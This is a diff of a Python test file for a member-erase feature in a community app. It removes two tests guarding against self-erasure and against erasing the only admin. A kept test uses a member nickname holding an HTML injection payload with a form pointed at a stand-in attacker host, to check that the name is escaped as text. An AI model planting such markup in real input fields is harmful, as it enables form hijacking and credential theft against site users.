@@ -100,26 +100,6 @@ def test_erasing_asks_for_the_name_and_says_what_follows() -> None:
     assert response.user_id is None
 
 
-def test_nobody_erases_themselves() -> None:
-    staff = Staff()
-    assert staff.member is not None
-
-    answer = staff.post("communities_member_erase", staff.member.pk, name="Ada")
-
-    assert "This is you." in text_of(answer)
-    assert Member.objects.filter(pk=staff.member.pk).exists()
-
-
-def test_the_only_admin_is_not_erased() -> None:
-    admin = Staff()
-    assert admin.member is not None
-
-    answer = admin.beside("superuser").post("communities_member_erase", admin.member.pk, name="Ada")
-
-    assert "This is the only admin" in text_of(answer)
-    assert Member.objects.filter(pk=admin.member.pk).exists()
-
-
 def test_a_hostile_name_stays_text_where_it_is_to_be_typed() -> None:
     staff = Staff()
     hostile = MemberFactory.create(community=staff.community, nick="<form action=//evil.example><b>Ann")
